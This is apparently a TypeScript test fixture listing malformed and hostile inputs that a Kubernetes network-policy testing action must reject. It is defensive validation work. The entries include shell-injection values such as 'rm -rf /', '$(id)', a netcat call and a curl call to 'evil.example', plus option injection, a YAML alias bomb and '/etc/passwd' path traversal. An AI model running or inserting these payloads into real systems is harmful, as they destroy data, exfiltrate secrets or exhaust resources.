// Inputs a workflow author could get wrong, or an attacker could write into a matrix
// or an input: each must be refused with one error that names the input, test or field
// at fault, before anything in the cluster changes.

export interface HostileInput {
  name: string;
  /** action inputs besides the defaults (`matrix` defaults to a valid one) */
  inputs: Record<string, string>;
  /** every one must match the error annotation */
  says: RegExp[];
}

/** A valid matrix, for entries whose fault is in another input. */
export const VALID_MATRIX = JSON.stringify({
  tests: [{ name: 'web', from: 'dark-tower', to: 'http://web.shop.svc.cluster.local/', expect: 'allow' }],
});

/** A matrix with one test whose field is replaced. */
function oneTest(fields: Record<string, unknown>): string {
  return JSON.stringify({
    tests: [
      {
        name: 'hostile',
        from: 'dark-tower',
        to: 'http://web.shop.svc.cluster.local/',
        expect: 'allow',
        ...fields,
      },
    ],
  });
}

const target = (to: string, ...says: RegExp[]): HostileInput => ({
  name: `target ${JSON.stringify(to)}`,
  inputs: { matrix: oneTest({ to }) },
  says: [/"hostile"/, /target/, ...says],
});

export const HOSTILE_INPUTS: HostileInput[] = [
  // the matrix as text
  {
    name: 'a matrix that is not YAML',
    inputs: { matrix: 'tests: [ {from: dark-tower, to: "http://web/", expect: allow' },
    says: [/input "matrix"/],
  },
  {
    name: 'a matrix whose tests are a map, not a list',
    inputs: { matrix: 'tests:\n  from: dark-tower\n  to: http://web/\n  expect: allow\n' },
    says: [/tests/, /list/],
  },
  {
    name: 'a YAML alias bomb',
    inputs: {
      matrix: [
        'a: &a ["x","x","x","x","x","x","x","x","x"]',
        'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
        'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
        'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
        'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
        'tests: [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
      ].join('\n'),
    },
    says: [/input "matrix"/, /alias/i],
  },
  {
    name: 'a key given twice',
    inputs: { matrix: `tests: []\ntests: [{from: dark-tower, to: "http://web/", expect: allow}]\n` },
    says: [/input "matrix"/, /line 2/, /twice/],
  },
  // fields of a test
  { name: 'expect as a number', inputs: { matrix: oneTest({ expect: 42 }) }, says: [/#1/, /expect/, /42/] },
  { name: 'an unknown field in a test', inputs: { matrix: oneTest({ port: 80 }) }, says: [/#1/, /"port"/] },
  {
    name: 'an invalid namespace name',
    inputs: { matrix: oneTest({ from: 'Dark_Tower' }) },
    says: [/Dark_Tower/],
  },
  {
    name: 'a namespace name that is a kubectl option',
    inputs: { matrix: oneTest({ from: '--all-namespaces' }) },
    says: [/--all-namespaces/],
  },
  {
    name: 'an invalid label key',
    inputs: { matrix: oneTest({ labels: { '-app': 'web' } }) },
    says: [/-app/],
  },
  {
    name: 'a label value with a newline',
    inputs: { matrix: oneTest({ labels: { app: 'web\nrm -rf /' } }) },
    says: [/labels|label value/],
  },
  {
    name: 'labels for a system namespace the action did not create',
    inputs: {
      matrix: JSON.stringify({
        namespaces: { 'kube-system': { labels: { team: 'me' } } },
        tests: [{ from: 'kube-system', to: 'http://web.shop.svc.cluster.local/', expect: 'allow' }],
      }),
    },
    says: [/kube-system/],
  },
  // targets: shell and option injection, and other junk
  target('http://x/;rm -rf /', /;/),
  target('tcp://-oProxyCommand=x:22', /-oProxyCommand=x/),
  target('http://$(id)/', /\$/),
  target('http://`id`/', /`/),
  target('http://web.shop.svc.cluster.local/\nrm -rf /', /control character|U\+000A/),
  target('http://web|nc evil.example 4444/', /\|/),
  // the other inputs
  {
    name: 'an empty namespace-prefix',
    inputs: { 'namespace-prefix': '' },
    says: [/namespace-prefix/, /empty/],
  },
  {
    name: 'namespace-prefix kube-',
    inputs: { 'namespace-prefix': 'kube-' },
    says: [/namespace-prefix/, /kube-/],
  },
  {
    name: 'namespace-prefix default',
    inputs: { 'namespace-prefix': 'default' },
    says: [/namespace-prefix/, /default/],
  },
  {
    name: 'a timeout that is not a duration',
    inputs: { timeout: 'soon' },
    says: [/input "timeout"/, /soon/],
  },
  { name: 'concurrency 0', inputs: { concurrency: '0' }, says: [/input "concurrency"/, /"0"/] },
  {
    name: 'a context that is an option',
    inputs: { context: '--kubeconfig=/etc/passwd' },
    says: [/input "context"/],
  },
  { name: 'an image with a shell word', inputs: { image: 'busybox;rm -rf /' }, says: [/input "image"/] },
  {
    name: 'a kubectl-version with a shell word',
    inputs: { 'kubectl-version': '1.33; curl evil.example' },
    says: [/input "kubectl-version"/],
  },
  { name: 'no matrix at all', inputs: { matrix: '' }, says: [/no matrix/] },
  {
    name: 'a matrix-file outside the workspace',
    inputs: { matrix: '', 'matrix-file': '../../../../etc/passwd' },
    says: [/input "matrix-file"/, /outside the workspace/],
  },
  {
    name: 'a matrix-file that is a link out of the workspace',
    inputs: { matrix: '', 'matrix-file': 'passwd-link.yaml' },
    says: [/input "matrix-file"/, /outside the workspace/],
  },
  {
    name: 'a matrix over 1 MiB',
    inputs: { matrix: '', 'matrix-file': 'huge.yaml' },
    says: [/huge\.yaml/, /1 MiB/],
  },
  {
    name: 'a matrix of more than 5000 tests',
    inputs: { matrix: '', 'matrix-file': 'many.yaml' },
    says: [/many\.yaml/, /5000/],
  },
  // a kubeconfig that is not one
  {
    name: 'a kubeconfig that is some other YAML',
    inputs: { kubeconfig: 'hello: world\n' },
    says: [/input "kubeconfig"/, /not a kubeconfig/],
  },
  {
    name: 'a kubeconfig that is base64 of something else',
    inputs: { kubeconfig: Buffer.from('just some words').toString('base64') },
    says: [/input "kubeconfig"/],
  },
];

/** The files of the workspace the entries above read through matrix-file. */
export function workspaceFiles(): Record<string, string> {
  const test = (i: number): string =>
    `  - {from: dark-tower, to: "http://web-${i}.shop.svc.cluster.local/", expect: allow}\n`;
  const many = `tests:\n${Array.from({ length: 5001 }, (_, i) => test(i)).join('')}`;
  const huge = `# ${'x'.repeat(1024 * 1024)}\n${VALID_MATRIX}\n`;
  return { 'huge.yaml': huge, 'many.yaml': many };
}
